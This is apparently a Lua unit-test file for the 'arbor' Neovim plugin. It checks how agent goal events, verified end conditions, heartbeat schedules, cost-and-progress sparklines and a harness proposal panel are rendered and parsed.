has(goal_event(P.EventGoalWait, { reason = 'backoff', delayMs = 30000, idleTurns = 1 }), '◎ goal backs off 30s after 1 turn(s) that changed nothing', 'goal_wait backoff')
local ver = goal_event(P.EventVerified, { command = 'make test', passed = false, exitCode = 2, durationMs = 310, output = 'FAIL x\n', spend = sp, claimed = true })
has(ver, '✗ end condition `make test` failed (exit 2, 310 ms) (after the model claimed success)', 'verified failed')
has(ver, '```\nFAIL x\n```', 'verified output')
has(goal_event(P.EventVerified, { command = 'make test', commit = 'abcdef0123456789', passed = true, exitCode = 0, durationMs = 40, spend = sp }),
  '✓ end condition `make test` passed (40 ms) on abcdef0123', 'verified passed')
has(goal_event(P.EventHeartbeatTick, { id = 'hb1', run = 4, count = 2, pending = 3, status = 'coalesced' }),
  '♡ heartbeat hb1 run 4 (counting 2 due times) coalesced: the session was busy; 3 pending', 'heartbeat_tick coalesced')
has(goal_event(P.EventHeartbeatTick, { id = 'hb1', run = 5, count = 1, pending = 0, status = 'stopped' }),
  '♡ heartbeat hb1 run 5 not delivered: the session is stopped', 'heartbeat_tick stopped')
local account = table.concat(goal.render('the task', wrap({ session = 's', objective = 'make the tests pass', status = 'complete', reason = 'the end condition passed',
  by = 'user', tokenBudget = 100, set = '2026-01-01T00:00:00Z', turns = 2, spent = sp, claimed = true, verified = true, ['until'] = 'make test',
  checks = 2, evidence = 'make test passed', lastCheck = { command = 'make test', passed = true, exitCode = 0, durationMs = 5, spend = sp } }, 'arbor.Goal')), '\n')
for _, want in ipairs({ 'status:    complete', 'why:       the end condition passed', 'budget:    100 tokens',
  'spent:     2 turns, 1200 tokens, $0.2500, 3 model calls', 'until:     `make test` (2 checks)',
  'success:   claimed by the model: yes; verified: yes', 'evidence:  make test passed', 'last check: `make test` passed (5 ms)' }) do
  has(account, want, 'goal account')
end
local prog = table.concat(goal.render_progress('the task', wrap({ session = 's', points = { { seq = 4, time = '2026-01-01T10:11:12.5Z',
  kind = 'verified', status = 'failed', detail = 'make test\nmore', spend = sp } } }, 'arbor.ProgressResult')), '\n')
has(prog, 'SEQ  TIME      KIND          STATUS', 'progress header')
check(prog:find('4  10:11:12  verified      failed               1200    $0.2500      3  make test', 1, true), 'progress row:\n' .. prog)
-- Heartbeats: the schedule a user types, a heartbeat's line in the list.
local hbm = require('arbor.heartbeat')
for input, want in pairs({ ['every 10m'] = { every = '10m' }, ['  Every  1h30m '] = { every = '1h30m' }, ['90s'] = { every = '90s' },
  ['*/15 * * * *'] = { cron = '*/15 * * * *' }, ['cron 0 3 * * 1-5'] = { cron = '0 3 * * 1-5' }, ['@hourly'] = { cron = '@hourly' } }) do
  local got, err = hbm.parse_schedule(input)
  check(vim.deep_equal(got, want), 'parse_schedule(' .. input .. '): ' .. vim.inspect({ got, err }))
end
for _, input in ipairs({ 'every 10q', 'every 500ms', 'soon', '* * *', '' }) do
  local got, err = hbm.parse_schedule(input)
  check(got == nil and err == 'schedule "' .. vim.trim(input) .. '": want "every 10m" (an interval of at least 1s) or a cron expression such as "*/15 * * * *"',
    'parse_schedule(' .. input .. '): ' .. vim.inspect({ got, err }))
end
local hb = wrap({ id = 'hb12ab', session = 'aaaa1111xxxx', instruction = 'check CI\nand more', every = '10m', created = 'x',
  nextDue = '2026-01-01T10:30:05.123Z', ticks = 3, delivered = 2, pending = 1, scheduled = true }, 'arbor.Heartbeat')
check(hbm.schedule_text(hb) == 'every 10m', 'schedule_text: ' .. hbm.schedule_text(hb))
check(hbm.state_text(hb) == 'next due 10:30:05 · 2/3 runs delivered · 1 pending', 'state_text: ' .. hbm.state_text(hb))
local hlines, hrows = hbm.render({ hb }, nil)
check(hlines[3] == 'hb12ab  aaaa1111  every 10m          next due 10:30:05 · 2/3 runs delivered · 1 pending' and hlines[4] == '    check CI'
  and hrows[3] == hb and hrows[4] == hb and not hrows[1], 'heartbeat list: ' .. vim.inspect(hlines))
-- The cost–progress summary: sparklines over time of verified progress (checkpoints and passed
-- checks of the whole tree) against the tokens and cost the tree spent (the root's points carry
-- the subtree's spending).
do
  local prog = require('arbor.progress')
  check(prog.seconds('2026-01-01T10:00:10.5Z') - prog.seconds('2026-01-01T10:00:00Z') == 10.5, 'progress.seconds')
  check(prog.sparkline({ { 0, 0 }, { 5, 5 }, { 10, 10 } }, 0, 10, 10) == '▁▁▁▁▅▅▅▅▅█', 'sparkline: ' .. prog.sparkline({ { 0, 0 }, { 5, 5 }, { 10, 10 } }, 0, 10, 10))
  check(prog.sparkline({ { 6, 3 } }, 0, 10, 5) == '  ███', 'a series starting late is blank before: ' .. prog.sparkline({ { 6, 3 } }, 0, 10, 5))
  check(prog.sparkline({}, 0, 1, 3) == '   ', 'no points, no line')
  local function pt(sec, kind, status, tokens, cost)
    return { seq = sec, time = string.format('2026-01-01T10:00:%02dZ', sec), kind = kind, status = status,
      spend = { tokens = tokens, costUSD = cost, modelCalls = sec } }
  end
  local root = wrap({ session = 'r', points = { pt(0, 'goal_set', 'active', 0, 0), pt(10, 'checkpoint', nil, 1000, 0.01),
    pt(20, 'verified', 'failed', 3000, 0.03), pt(40, 'verified', 'passed', 9000, 0.09) } }, 'arbor.ProgressResult')
  local kid = wrap({ session = 'k', points = { pt(30, 'checkpoint', nil, 500, 0.005) } }, 'arbor.ProgressResult')
  local sum = prog.summary('the task', root, { { session = 'k', label = '└─ helper  kkkk1111', points = kid.points } }, 8)
  local text = table.concat(sum, '\n')
  has(text, '# Progress of the task (the session tree: 2 sessions)', 'summary title')
  has(text, 'verified   ▃▃▃▃▆▆█  3 (2 checkpoints, 1 check passed, 1 failed)', 'verified sparkline (blank before the first)')
  has(text, 'tokens    ▁▂▂▃▃▃▃█  9.0k', 'tokens sparkline')
  has(text, 'cost      ▁▂▂▃▃▃▃█  $0.0900', 'cost sparkline')
  has(text, '10:00:00 → 10:00:40 (40s), 5 points; 40 model calls', 'the time span')
  has(text, '└─ helper  kkkk1111  1 checkpoint, 0 checks passed · 500 tok · $0.0050', 'the child line')
  has(table.concat(prog.summary('none', { points = {} }, {}, 8), '\n'), 'No progress points yet', 'an empty series')
  local one = table.concat(prog.summary('one', { points = { pt(5, 'checkpoint', nil, 10, 0) } }, {}, 8), '\n')
  has(one, 'verified  █  1 (1 checkpoint, 0 checks passed)', 'a single moment is one cell')
  has(one, '(0s), 1 point; 5 model calls', 'one point')
end

-- The harness panel: proposals with their evidence and gate, then each scope's entries; an
-- entry's view: its versions with their trailers, then what it is now.
do
  local harness = require('arbor.harness')
  local ch = wrap({ author = 'refine', session = 'ssss1111zzzz', turn = 2, trigger = { 8, 9 }, intended = 'no failed imports',
    observed = 'fewer errors' }, 'arbor.HarnessChange')
  check(harness.trailers(ch) == 'refine, session ssss1111 turn 2 · trigger #8 #9 · intended: no failed imports · observed: fewer errors',
    'trailers: ' .. harness.trailers(ch))
  local p = wrap({ id = 'p0a1b2c3d', scope = 'workspace', ref = 'r', author = 'refine', session = 'ssss1111zzzz', trigger = { 8 },
    rationale = 'the import failed', intended = 'no failed imports', edits = { { op = 'create', kind = 'note', id = 'check-imports',
    title = 'Check imports' } }, commit = 'c', created = 'x', status = 'pending' }, 'arbor.Proposal')
  local decided = wrap({ id = 'p9', scope = 'workspace', ref = 'r', author = 'agent', edits = {}, commit = 'c', created = 'x',
    status = 'applied', applied = 'abcdef0123456789', decidedBy = 'user',
    gate = { command = 'make test', passed = true, exitCode = 0, durationMs = 12, output = '' } }, 'arbor.Proposal')
  local entry = wrap({ kind = 'note', id = 'check-imports', title = 'Check imports', body = 'Check first.', version = '0123456789abcdef' }, 'arbor.HarnessEntry')
  local lines, owners = harness.render({ repo = '/r', status = 'all', session = { id = 'ssss1111zzzz', title = 'compute' },
    proposals = { p, decided }, evidence = { p0a1b2c3d = { '#8 tool_finished: result (error)' } },
    lists = { { scope = 'session', result = wrap({ scope = 'session', ref = 'refs/arbor/harness/session/ssss1111zzzz', head = '0123456789abcdef',
      entries = { entry } }, 'arbor.HarnessListResult') }, { scope = 'global', result = { scope = 'global', ref = 'refs/arbor/harness/global', head = '', entries = {} } },
      { scope = 'workspace', error = 'boom' } } })
  local text = table.concat(lines, '\n')
  has(lines[1], 'Arbor harness of /r · session ssss1111 compute', 'the panel title')
  has(text, 'Proposals: 2 in all\n  p0a1b2c3d  pending  workspace create note check-imports (Check imports)  (refine, session ssss1111)', 'a proposal row')
  has(text, '      > the import failed\n      intended: no failed imports\n      evidence: #8 tool_finished: result (error)\n      gate: not run yet', 'evidence and gate')
  has(text, '      branch check `make test` passed (exit 0), 12 ms\n      applied as abcdef0123 by user', 'a decided proposal with its gate')
  check(select(2, text:gsub('gate: not run yet', '')) == 1, 'only the pending proposal says its gate has not run:\n' .. text)
  has(text, 'session scope (ssss1111)  refs/arbor/harness/session/ssss1111zzzz @ 0123456789\n  note      check-imports            Check imports', 'an entry row')
  has(text, 'global scope  refs/arbor/harness/global @ (no change yet)\n  (no entries)', 'an empty scope')
  has(text, 'workspace scope: boom', 'a scope that failed to list')
  local erow
  for i, l in ipairs(lines) do
    if l:find('^  note') then
      erow = i
    end
  end
  check(owners[erow] and owners[erow].entry.id == 'check-imports' and owners[erow].scope == 'session', 'the entry row owns the entry')
  check(owners[5] and owners[5].proposal.id == 'p0a1b2c3d' and owners[1] == nil, 'the proposal rows own the proposal')
  local vs = { wrap({ commit = 'bbbbbbbbbbbb', time = '2026-01-01T10:00:05Z', subject = 'harness: update note check-imports', change = { author = 'user' } }, 'arbor.HarnessVersion'),
    wrap({ commit = 'aaaaaaaaaaaa', time = '2026-01-01T10:00:00Z', subject = 'harness: create note check-imports', change = ch }, 'arbor.HarnessVersion') }
  local elines, eowners = harness.render_entry('session', entry, vs)
  local etext = table.concat(elines, '\n')
  has(etext, '# note check-imports (session scope): Check imports — version 0123456789', 'entry title')
  has(etext, 'Versions, newest first:\n  bbbbbbbbbb  2026-01-01 10:00:05  harness: update note check-imports\n      user\n  aaaaaaaaaa', 'versions')
  has(etext, 'Now:\n  Check first.', 'the entry now')
  check(eowners[5].index == 1 and eowners[6].index == 1 and eowners[7].index == 2, 'version rows: ' .. vim.inspect(eowners))
end

local bad = vim.tbl_keys(unknown_fields)
table.sort(bad)
check(#bad == 0, 'proposals.lua reads fields the protocol does not have: ' .. table.concat(bad, ', '))
io.stdout:write('unit: ok\n')
